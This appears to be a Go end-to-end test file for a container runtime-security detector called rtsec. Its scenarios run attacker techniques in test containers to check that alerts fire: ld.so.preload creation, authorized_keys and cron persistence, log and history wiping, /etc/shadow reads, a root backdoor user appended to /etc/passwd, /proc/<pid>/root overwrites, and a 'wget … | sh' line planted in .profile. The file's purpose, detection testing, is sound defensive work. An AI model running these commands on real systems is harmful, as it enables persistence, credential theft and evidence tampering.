package e2e

import (
	"fmt"
	"os"
	"path/filepath"

	"github.com/rtsec/rtsec/test/runc"
)

// Alert names of the file scenarios (mixin/alerts/files.libsonnet).
const (
	writeEtcAlert      = "RtsecWriteBelowEtc"
	writeBinAlert      = "RtsecWriteBelowBinaryDir"
	ldPreloadAlert     = "RtsecLdPreloadModified"
	authorizedKeyAlert = "RtsecAuthorizedKeysModified"
	cronAlert          = "RtsecCronJobScheduled"
	releaseAgentAlert  = "RtsecReleaseAgentWrite"
	logClearedAlert    = "RtsecLogCleared"
	historyAlert       = "RtsecShellHistoryDeleted"
	linkedAlert        = "RtsecSensitiveFileLinked"
	devAlert           = "RtsecFileCreatedBelowDev"
	setuidAlert        = "RtsecSetuidBitSet"
	sensitiveReadAlert = "RtsecSensitiveFileRead"
	traversalAlert     = "RtsecDirectoryTraversal"
	otherMemoryAlert   = "RtsecOtherProcessMemoryRead"
	shellConfigAlert   = "RtsecShellConfigModified"
	driftAlert         = "RtsecExecutableDrift"
	hiddenAlert        = "RtsecHiddenFileCreated"
	shellConfigRead    = "RtsecShellConfigRead"
	sshClientRead      = "RtsecSSHClientFileRead"
	procExeAlert       = "RtsecContainerEntrypointModified"
)

// fileFiles are files every file scenario's container starts with.
var fileFiles = map[string][]byte{
	"etc/shadow":            []byte("root:*:19000:0:99999:7:::\n"),
	"etc/cron.d/.keep":      nil,
	"root/.ssh/.keep":       nil,
	"root/.ash_history":     []byte("ls\n"),
	"var/log/app.log":       []byte("old\n"),
	"tmp/tool":              []byte("#!/bin/sh\n"),
	"var/lib/app/.keep":     nil,
	"data/.keep":            nil,
	"var/lib/dpkg/.keep":    nil,
	"etc/ssl/.keep":         nil,
	"root/.profile":         []byte("export PATH\n"),
	"etc/profile":           []byte("export PATH=/bin\n"),
	"root/.ssh/known_hosts": []byte("203.0.113.10 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample\n"),
}

func fileContainer() runc.Options { return runc.Options{Files: fileFiles} }

func fileMatch(alert, class, op string) Match {
	return Named(alert, "path_class", class, "op", op)
}

// modified is the event log line of a critical modification.
func modified(path, class, op string) Event {
	return Logged("file_modification", "path", path, "path_class", class, "op", op)
}

// The scenarios of the file signals, added to the table.
func init() {
	Scenarios = append(Scenarios, fileScenarios...)
}

var fileScenarios = []Scenario{
	{
		Name:        "file-write-below-etc",
		Description: "A file is created below /etc in a running container (touch).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("touch", "/etc/rtsec.conf")},
		Expect:      []Match{fileMatch(writeEtcAlert, "etc", "create")},
		Forbid:      []Match{Named(ldPreloadAlert), Named(sensitiveReadAlert)},
	},
	{
		Name:        "file-write-below-binary-dir",
		Description: "A binary is dropped into /bin (cp).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cp", "/bin/busybox", "/bin/rtsec-dropped")},
		Expect:      []Match{fileMatch(writeBinAlert, "bin_dirs", "create")},
		Events:      []Event{modified("/bin/rtsec-dropped", "bin_dirs", "create")},
		Forbid:      []Match{Named(writeEtcAlert), Named(setuidAlert)},
	},
	{
		Name:        "file-ld-preload",
		Description: "/etc/ld.so.preload is created: the rootkit technique.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("touch", "/etc/ld.so.preload")},
		Expect:      []Match{fileMatch(ldPreloadAlert, "etc_ld_preload", "create")},
		Events:      []Event{modified("/etc/ld.so.preload", "etc_ld_preload", "create")},
		Forbid:      []Match{Named(writeEtcAlert)},
	},
	{
		Name:        "file-authorized-keys",
		Description: "An SSH key is added for root (authorized_keys created).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cp", "/etc/passwd", "/root/.ssh/authorized_keys")},
		Expect:      []Match{fileMatch(authorizedKeyAlert, "ssh_authorized_keys", "create")},
		Events:      []Event{modified("/root/.ssh/authorized_keys", "ssh_authorized_keys", "create")},
	},
	{
		Name:        "file-cron-job",
		Description: "A cron job is dropped into /etc/cron.d.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cp", "/etc/passwd", "/etc/cron.d/job")},
		Expect:      []Match{fileMatch(cronAlert, "etc_cron", "create")},
		Events:      []Event{modified("/etc/cron.d/job", "etc_cron", "create")},
		Forbid:      []Match{Named(writeEtcAlert)},
	},
	{
		Name:        "file-release-agent",
		Description: "A file named release_agent is written: the cgroup v1 escape writes one in a cgroup hierarchy it mounted; rtsec matches the name wherever the hierarchy is mounted.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cp", "/tmp/tool", "/tmp/release_agent")},
		Expect:      []Match{fileMatch(releaseAgentAlert, "cgroup_release_agent", "create")},
		Events:      []Event{modified("/tmp/release_agent", "cgroup_release_agent", "create")},
	},
	{
		Name:        "file-log-cleared",
		Description: "An application log below /var/log is deleted.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("rm", "/var/log/app.log")},
		Expect:      []Match{fileMatch(logClearedAlert, "log", "unlink")},
		Events:      []Event{modified("/var/log/app.log", "log", "unlink")},
	},
	{
		Name:        "file-shell-history-deleted",
		Description: "Root's shell history is replaced by a link to /dev/null (ln -sf).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("ln", "-sf", "/dev/null", "/root/.ash_history")},
		Expect:      []Match{fileMatch(historyAlert, "shell_history", "unlink"), fileMatch(historyAlert, "shell_history", "symlink")},
		Events:      []Event{modified("/root/.ash_history", "shell_history", "unlink"), modified("/root/.ash_history", "shell_history", "symlink")},
		Forbid:      []Match{Named(devAlert), Named(linkedAlert)},
	},
	{
		Name:        "file-symlink-sensitive",
		Description: "A symlink to /etc/shadow is created in /tmp.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("ln", "-s", "/etc/shadow", "/tmp/s")},
		Expect:      []Match{fileMatch(linkedAlert, "etc_shadow", "symlink")},
		Events:      []Event{modified("/etc/shadow", "etc_shadow", "symlink")},
	},
	{
		Name:        "file-created-below-dev",
		Description: "A file is created below /dev.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("touch", "/dev/rtsec-hidden")},
		Expect:      []Match{fileMatch(devAlert, "dev", "create")},
		Events:      []Event{modified("/dev/rtsec-hidden", "dev", "create")},
	},
	{
		Name:        "file-setuid-bit",
		Description: "The setuid bit is set on a file in /tmp (chmod u+s).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("chmod", "u+s", "/tmp/tool")},
		Expect:      []Match{fileMatch(setuidAlert, "other", "setuid_bit")},
		Events:      []Event{modified("/tmp/tool", "other", "setuid_bit")},
	},
	{
		Name:        "file-sensitive-read",
		Description: "/etc/shadow is read (cat).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cat", "/etc/shadow")},
		Expect:      []Match{Named(sensitiveReadAlert, "file_class", "shadow")},
		Events:      []Event{Logged("file_sensitive_read", "path", "/etc/shadow", "file_class", "shadow")},
		Forbid:      []Match{Named(traversalAlert)},
	},
	{
		Name:        "file-traversal-read",
		Description: "/etc/shadow is read through a path with .. (cat /tmp/../etc/shadow).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cat", "/tmp/../etc/shadow")},
		Expect:      []Match{Named(traversalAlert, "file_class", "traversal"), Named(sensitiveReadAlert, "file_class", "shadow")},
		Events:      []Event{Logged("file_sensitive_read", "path", "/etc/shadow", "file_class", "shadow", "traversal", "true")},
	},
	{
		Name:        "file-other-process-environ",
		Description: "The environment of another process (the container's init) is read.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cat", "/proc/1/environ")},
		Expect:      []Match{Named(otherMemoryAlert, "file_class", "proc_environ")},
		Events:      []Event{Logged("file_sensitive_read", "path", "/proc/1/environ", "file_class", "proc_environ")},
	},
	{
		Name:        "file-passwd-traversal-write",
		Description: "A user is appended to /etc/passwd through a relative path with .. (cd /etc/ssl && echo … >> ../passwd).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("sh", "-c", "cd /etc/ssl && echo 'toor:x:0:0::/root:/bin/sh' >> ../passwd")},
		Expect:      []Match{fileMatch(writeEtcAlert, "etc_passwd", "write"), fileMatch(traversalAlert, "etc_passwd", "traversal")},
		Events:      []Event{modified("/etc/passwd", "etc_passwd", "write")},
	},
	{
		Name:        "file-shell-config-modified",
		Description: "A command is appended to root's shell startup file (~/.profile): persistence at the next login.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("sh", "-c", "echo 'wget -q -O- http://203.0.113.10/x | sh' >> /root/.profile")},
		Expect:      []Match{fileMatch(shellConfigAlert, "shell_rc", "write")},
	},
	{
		Name:        "file-log-truncated",
		Description: "An application log below /var/log is emptied by truncating it (: > file), not deleted.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("sh", "-c", ": > /var/log/app.log")},
		Expect:      []Match{fileMatch(logClearedAlert, "log", "truncate")},
	},
	{
		Name:        "file-shell-history-renamed",
		Description: "Root's shell history is moved away (mv), not deleted.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("mv", "/root/.ash_history", "/tmp/h")},
		Expect:      []Match{fileMatch(historyAlert, "shell_history", "rename")},
	},
	{
		Name:        "file-drift-chmod",
		Description: "A script is written to /tmp and made executable (chmod +x): drift from the image, before it runs.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("sh", "-c", "echo 'echo owned' > /tmp/payload && chmod +x /tmp/payload")},
		Expect:      []Match{fileMatch(driftAlert, "other", "exec_mode")},
	},
	{
		Name:        "file-drift-create",
		Description: "A binary is created with an executable mode in the container (cp of busybox to /data: open(O_CREAT, 0755)).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cp", "/bin/busybox", "/data/tool")},
		Expect:      []Match{fileMatch(driftAlert, "other", "exec_mode")},
	},
	{
		Name:        "file-hidden-system",
		Description: "A hidden file is created in a system location (touch /etc/.rtsec-hidden).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("touch", "/etc/.rtsec-hidden")},
		Expect:      []Match{fileMatch(hiddenAlert, "etc", "hidden")},
	},
	{
		Name:        "file-shell-config-read",
		Description: "A shell startup file is read by a program that is not an interactive shell (cat /etc/profile).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cat", "/etc/profile")},
		Expect:      []Match{Named(shellConfigRead, "file_class", "shell_config")},
	},
	{
		Name:        "file-ssh-client-read",
		Description: "Root's SSH known_hosts is read without any ssh tool running (cat): discovery of where the keys lead.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cat", "/root/.ssh/known_hosts")},
		Expect:      []Match{Named(sshClientRead, "file_class", "ssh_client_config")},
	},
	{
		Name: "file-proc-root-write",
		Description: "A hostPID container writes into another container's root through /proc/<pid>/root (the runc overwrite of " +
			"CVE-2019-5736 goes the same way, /proc/<pid>/exe; here the target is a harness container, not the host's runc).",
		Container: runc.Options{Files: fileFiles, HostPID: true},
		Setup:     func(e *Env) { e.procRootTarget() },
		Steps:     []Step{Cmd("sh", "/x/overwrite.sh")},
		Expect:    []Match{Named(procExeAlert, "path_class", "proc_exe")},
	},
	{
		Name: "benign-app-data-and-logs",
		Description: "A service (its entrypoint, no further execs) writes its own data under /data and /var/lib/app, " +
			"appends to its log below /var/log and rotates it by rename every 5 lines: no file alert.",
		Benign: true,
		Container: runc.Options{Files: fileFiles, Args: []string{"sh", "-c",
			`mkfifo /tmp/tick; exec 3<>/tmp/tick; i=0; while :; do echo "line $i" >> /var/log/app.log; echo "$i" > /data/state; ` +
				`echo "$i" >> /var/lib/app/db; i=$((i+1)); if [ $((i % 5)) -eq 0 ]; then mv /var/log/app.log /var/log/app.log.1; fi; read -t 1 x <&3; done`}},
		Steps:  []Step{Cmd("ps")},
		Forbid: firstReplica,
	},
	{
		Name: "benign-image-build",
		Description: "An image-build-like container installs a package while young (binary, package database, config), " +
			"then idles: what a container does in its startup grace does not alert.",
		Benign: true,
		Container: runc.Options{Files: fileFiles, Args: []string{"sh", "-c",
			"cp /bin/busybox /bin/rtsec-pkg && echo 'Package: rtsec' > /var/lib/dpkg/status && echo x > /etc/rtsec-pkg.conf && exec sleep 1000000"}},
		Steps:  []Step{Cmd("ps")},
		Forbid: critical,
	},
}

// procRootTarget starts a target container and writes /x/overwrite.sh into
// the main one: it writes a file into the target's /tmp through
// /proc/<target pid>/root.
func (e *Env) procRootTarget() {
	e.T.Helper()
	target := e.Start(runc.Options{})
	script := fmt.Sprintf("echo owned > /proc/%d/root/tmp/rtsec-overwritten\n", target.Pid())
	dir := filepath.Join(e.Main().Rootfs(), "x")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		e.T.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "overwrite.sh"), []byte(script), 0o644); err != nil {
		e.T.Fatal(err)
	}
}
